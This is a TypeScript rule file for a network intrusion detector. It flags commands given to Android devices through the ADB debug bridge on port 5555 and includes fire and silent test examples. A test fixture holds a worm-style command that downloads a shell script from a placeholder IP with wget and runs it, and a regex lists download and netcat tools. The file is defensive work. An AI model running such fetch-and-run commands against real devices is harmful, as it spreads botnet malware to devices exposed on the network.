import type { Verb } from '#model/fact'
import { defineRule } from '#model/rule'

const shell = {
  kind: 'operation',
  verb: 'execute',
  name: 'Open shell',
  code: 'shell',
  object: 'cd /data/local/tmp; wget http://203.0.113.9/a.sh; sh a.sh',
  outcome: 'asked',
} as const
const place = { protocol: 'adb', serverPort: 5555 } as const
/** Shells, restarts, rights that are asked for, files that are sent. */
const COMMANDS: readonly Verb[] = ['execute', 'restart', 'configure', 'write']
/** What worms send: a program is fetched, and run. */
const LOADS = /\b(?:wget|curl|tftp|busybox)\b|\bnc\s/i

export const rule = defineRule({
  id: 'debug-bridge-used',
  engine: 'malware',
  title: 'Commands are given to a device by its debug bridge',
  category: 'Suspicion of Malicious Activity',
  severity: 'major',
  techniques: ['T0807', 'T0866'],
  counterpart: [],
  learnable: true,
  whileLearning: 'alert',
  why: 'Panels, signs and cameras with Android that leave port 5555 open take commands of anybody; botnets look for nothing else.',
  todo: [
    'Read the command in the packets, and see what the device did next',
    'Switch debugging over the network off at the device',
    'Set the device up anew if a program was fetched',
  ],
  falsePositives: 'Developers at work on a device of their own.',
  watches: 'operation',
  concerns: { protocols: ['adb'], outcomes: ['asked'], verbs: COMMANDS },
  evaluate({ fact, protocol }, known) {
    if (protocol !== 'adb' || fact.kind !== 'operation' || fact.outcome !== 'asked') return undefined
    if (!COMMANDS.includes(fact.verb)) return undefined
    if (!known.isLearning && known.isUsual()) return undefined
    const line = fact.object === undefined ? '' : `: ${fact.object.slice(0, 100)}`
    return {
      severity: LOADS.test(fact.object ?? '') ? 'critical' : undefined,
      summary: `${known.nameOf('client')} gave ${known.nameOf('server')} a command by its debug bridge (${fact.code}${line})`,
      subject: fact.code,
    }
  },
  examples: {
    fires: [
      { when: 'a worm loads its program', facts: [{ ...place, fact: shell }], severity: 'critical' },
      {
        when: 'a shell is opened',
        facts: [{ ...place, fact: { ...shell, object: undefined } }],
        severity: 'major',
      },
      {
        when: 'a program is installed without a shell',
        facts: [
          {
            ...place,
            fact: { ...shell, name: 'Open abb_exec', code: 'abb_exec', object: 'package install' },
          },
        ],
        severity: 'major',
      },
      {
        when: 'a file is sent',
        facts: [
          {
            ...place,
            fact: {
              ...shell,
              verb: 'write',
              name: 'Send file',
              code: 'sync SEND',
              object: '/data/local/tmp/a',
            },
          },
        ],
        severity: 'major',
      },
    ],
    silent: [
      {
        when: 'files are to be read or sent, of which each is told',
        facts: [{ ...place, fact: { ...shell, verb: 'read', name: 'Open sync', code: 'sync' } }],
      },
    ],
  },
})
